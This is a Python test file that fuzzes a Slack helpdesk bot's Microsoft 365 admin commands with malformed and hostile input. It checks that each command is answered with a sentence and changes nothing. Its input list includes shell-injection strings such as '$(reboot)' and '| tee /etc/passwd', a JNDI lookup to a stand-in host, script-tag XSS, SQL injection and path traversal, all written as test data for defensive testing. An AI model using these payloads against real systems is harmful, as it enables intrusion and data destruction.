"""Whatever people type, on any keyboard: each gets a sentence, none a stack trace, none changes anything."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.actions import delegated
from handlers.commands import COMMANDS
from tests.stage import HELPDESK, Stage
from tests.threats.effects import nothing_done, requests_of, settled
from tests.threats.talking import last_said

pytestmark = pytest.mark.asyncio(loop_scope="module")

OURS = "Something went wrong on our side"

TYPED = (
    # verbs
    "/m365 make-me-admin",
    "/m365 reset",
    "/m365 reset password",
    "/m365 RESET-PASSWORD",
    "/m365 reset_password nobody@contoso.com",
    "/m365 rest-password adele@contoso.com",
    "/m365 --reset-password",
    "/m365 ----",
    "/m365 —",
    "/m365 ?",
    '/m365 "',
    "/m365 '",
    "/m365 “",
    '/m365 "reset-password',
    "/m365 /m365 help",
    "/m365 help help help",
    "/m365 🔥🔥🔥",
    "/m365 \u202eenila",
    "/m365 \u0000",
    "/m365 \u200b",
    "/m365 \t\t",
    "/m365 a\nb\nc",
    "/m365 $(reboot)",
    "/m365 `reboot`",
    "/m365 ; reboot",
    "/m365 | tee /etc/passwd",
    "/m365 > /dev/null",
    "/m365 {{7*7}}",
    "/m365 ${jndi:ldap://evil.example/a}",
    "/m365 <script>alert(1)</script>",
    "/m365 <!channel>",
    "/m365 %s%s%s%n",
    '/m365 {"action": "reset-password"}',
    "/m365 " + "a" * 1990,
    "/m365 " + "a " * 1400,
    "/m365 " + "--reason " * 300,
    "/m365 " + '"' * 1500,
    # options
    "/m365 reset-password --reason",
    "/m365 reset-password adele@contoso.com --reason x --reason y",
    "/m365 reset-password adele@contoso.com --target gary@contoso.com",
    "/m365 reset-password adele@contoso.com --password Hunter2Hunter2",
    "/m365 reset-password adele@contoso.com --preview maybe",
    "/m365 reset-password adele@contoso.com --ticket",
    "/m365 reset-password adele@contoso.com -reason x",
    "/m365 reset-password adele@contoso.com --reason=",
    f"/m365 reset-password adele@contoso.com --reason {'x' * 600}",
    f"/m365 reset-password adele@contoso.com --verified {'x' * 600}",
    "/m365 reset-password adele@contoso.com --__class__ x",
    "/m365 show-user adele@contoso.com --minutes 60",
    "/m365 show-user adele@contoso.com --verified",
    # targets
    "/m365 show-user @olive",
    "/m365 show-user @nobody-of-that-name",
    "/m365 show-user #helpdesk",
    "/m365 show-user nobody@contoso.com",
    "/m365 show-user nobody@another-tenant.example",
    "/m365 show-user 00000000-0000-0000-0000-000000000000",
    "/m365 show-user 00000000-0000-0000-0000-00000000000g",
    "/m365 show-user adele@contoso.com gary@contoso.com",
    "/m365 show-user adele@",
    "/m365 show-user @contoso.com",
    "/m365 show-user adele@@contoso.com",
    "/m365 show-user .",
    "/m365 show-user *",
    "/m365 show-user " + "x" * 300,
    "/m365 show-user " + "x" * 100 + "@" + "y" * 100 + ".com",
    "/m365 show-user \ufeff\u2060",
    "/m365 show-user 💀@contoso.com",
    "/m365 show-user https://evil.example/adele",
    "/m365 reset-password adele@contoso.com lee@contoso.com --reason x",
    "/m365 revoke-sessions everybody",
    # can, undo
    "/m365 can",
    "/m365 can fly",
    "/m365 can reset-password nobody@contoso.com",
    "/m365 can reset-password adele@contoso.com --reason",
    "/m365 undo undo undo",
    "/m365 undo ../../requests",
    "/m365 undo ' OR 1=1",
    "/m365 undo " + "0" * 32,
    # the other commands
    "/m365-session sideways",
    "/m365-session on off",
    "/m365-session extend forever",
    "/m365-session --reason",
    "/m365-session -1",
    "/m365-audit",
    "/m365-audit --since yesterday",
    "/m365-audit --since 0d",
    "/m365-audit --since -7d",
    "/m365-audit --since ٣d",
    "/m365-audit --since 99999999999999d",
    "/m365-audit --since 7",
    "/m365-audit --until now",
    "/m365-audit " + "x" * 300,
    "/m365-audit <@U0NOBODY01>",
    "/m365-audit ' OR 1=1 --",
)
"""Typed by the help desk, and by an auditor; nothing of it can be done as it stands."""

BY = {"/m365-audit": "audrey"}


def person(typed: str) -> str:
    return BY.get(typed.partition(" ")[0], "olive")


async def test_there_are_enough_of_them() -> None:
    assert len(set(TYPED)) >= 60


@pytest.mark.parametrize("typed", TYPED, ids=lambda typed: ascii(typed)[1:50])
async def test_what_cannot_be_done_is_answered_with_a_sentence(shared: Stage, typed: str) -> None:
    async with nothing_done(shared):
        answer = await last_said(shared, person(typed), typed)
        await settled(shared.bot)

    assert len(answer.split()) >= 3
    assert OURS not in answer
    assert "Traceback" not in answer
    assert not [word for word in ("NoneType", "KeyError", "Exception", "0x7") if word in answer]


# --- anything ------------------------------------------------------------------------------------------

_WORDS = st.sampled_from(
    (
        *delegated(),
        "help", "can", "undo", "on", "off", "extend", "status",
        "--reason", "--verified", "--ticket", "--preview", "--group", "--license", "--minutes", "--since", "--once",
        "—reason", "–verified", "-reason", "--reason=x", "--", "-", "=", '"', "“", "”", "'", "’", "\\", "`",
        "adele@contoso.com", "<mailto:adele@contoso.com|adele@contoso.com>", "<@U0OLIVE001>", "<#C0HELPDESK|helpdesk>",
        "&lt;", "&amp;", "7d", "-1", "0", "99999999999999999999", "yes", "no", "\u200b", "\u202e", "\n", "%00", "../..",
    )
)  # fmt: skip
_ALMOST_A_COMMAND = st.lists(st.one_of(_WORDS, st.text(max_size=12)), max_size=12).map(" ".join)
_LINES = st.tuples(st.sampled_from(COMMANDS), st.one_of(st.text(max_size=200), _ALMOST_A_COMMAND)).map(" ".join)


def lines(count: int) -> list[str]:
    """Lines that a machine made up, among them what breaks most parsers."""
    found: list[str] = []

    @settings(max_examples=count, deadline=None, suppress_health_check=list(HealthCheck))
    @given(_LINES)
    def collect(line: str) -> None:
        found.append(line)

    collect()
    return found


async def test_no_text_makes_the_bot_stumble_or_change_anything(shared: Stage) -> None:
    """Two hundred lines, others each time, through the real door; each is one request with a sentence or a form."""
    typed = lines(200)
    before = len(await requests_of(shared, "olive", 10_000))
    async with nothing_done(shared):
        for line in typed:
            delivery = await shared.world.slack.command("olive", HELPDESK, line)
            assert delivery.ack.status == "ok", line
        await settled(shared.bot)

    requests = await requests_of(shared, "olive", 10_000)
    assert len(requests) == before + len(typed)
    for request in requests:
        assert OURS not in request.sentence
        assert request.sentence or not request.state.final, request
    assert not [message for message in shared.world.slack.ephemerals("olive") if OURS in message.visible_text]
